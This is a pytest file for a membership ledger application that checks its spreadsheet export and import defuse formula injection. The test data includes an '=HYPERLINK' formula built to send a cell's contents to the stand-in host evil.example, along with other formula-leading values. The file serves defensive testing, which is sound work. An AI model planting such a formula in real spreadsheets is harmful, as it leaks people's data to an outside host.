"""The ledger export holds what members typed as text: no formula, no refused character."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from flowmember.core.auth import SYSTEM
from flowmember.extensions import db
from flowmember.members.columns import KEYS, header_row
from flowmember.members.identity import build_id_number
from flowmember.members.ledger_io import export_members, import_members
from tests.conftest import login

from .conftest import write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?"&C2,"x")'


def test_a_formula_typed_in_a_checkin_is_text_in_the_ledger_export(
    client, api, secretary, branch, make_member, make_member_user, freeze
):
    freeze("2026-11-21")
    member = make_member(org=branch, name="张\x07三", category="migrant")
    me = api.as_(make_member_user(member))
    checkin = me.post("/me/checkins", json={"report": "x", "employer": HYPERLINK})
    assert checkin.status_code == 201, checkin.get_json()
    login(client, secretary)
    exported = client.get("/members/export.xlsx")
    assert exported.status_code == 200
    header, *rows = load_workbook(io.BytesIO(exported.data)).active.iter_rows()
    (cells,) = rows
    row = dict(zip(KEYS, cells, strict=True))
    assert row["employer"].data_type == "s"
    assert row["employer"].value == "'" + HYPERLINK
    assert row["name"].value == "张三"
    assert not any(
        isinstance(c.value, str) and c.value[:1] in "=+-@\t\r" and c.value != member.phone
        for c in cells
    )


def test_an_exported_formula_imports_back_as_the_text_it_was(tmp_path, branch, make_member):
    make_member(org=branch, name="=1+1", employer=HYPERLINK, home_org_name="@home")
    make_member(org=branch, name="'=quoted", employer="-2+3")
    db.session.commit()
    path = tmp_path / "ledger.xlsx"
    assert export_members(SYSTEM, path) == 2
    db.session.commit()
    again = import_members(SYSTEM, path)
    db.session.commit()
    assert (again.created, again.updated, again.unchanged, len(again.rejected)) == (0, 0, 2, 0), [
        r.error_text() for r in again.rejected
    ]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_rejected_rows_file_holds_a_formula_as_text(tmp_path, branch, suffix):
    bad = {
        "name": HYPERLINK,
        "gender": "男",
        "id_number": build_id_number("420102", date(1990, 1, 1), 7),
        "phone": "garbage",
        "category": "外出务工",
        "stage": "正式党员",
        "joined_on": "2015-07-01",
        "org": branch.code,
        "employer": "@SUM(1,1)",
    }
    path = tmp_path / f"ledger{suffix}"
    if suffix == ".csv":
        write_csv(path, [bad])
    else:
        book = Workbook()
        book.active.append(header_row())
        book.active.append([bad.get(k) for k in KEYS])
        for cell in book.active[2]:
            cell.data_type = "s"  # text typed as '=..., not a formula
        book.save(path)
    report = import_members(SYSTEM, path)
    db.session.commit()
    assert len(report.rejected) == 1
    if suffix == ".csv":
        with report.rejected_file.open(encoding="utf-8-sig", newline="") as fh:
            header, cells = csv.reader(fh)
    else:
        header, cells = load_workbook(report.rejected_file).active.iter_rows()
        assert {c.data_type for c in cells if c.value is not None} == {"s"}
        header, cells = [c.value for c in header], [c.value for c in cells]
    row = {h.split()[-1]: c for h, c in zip(header, cells, strict=True)}
    assert row["name"] == "'" + HYPERLINK
    assert row["employer"] == "'@SUM(1,1)"
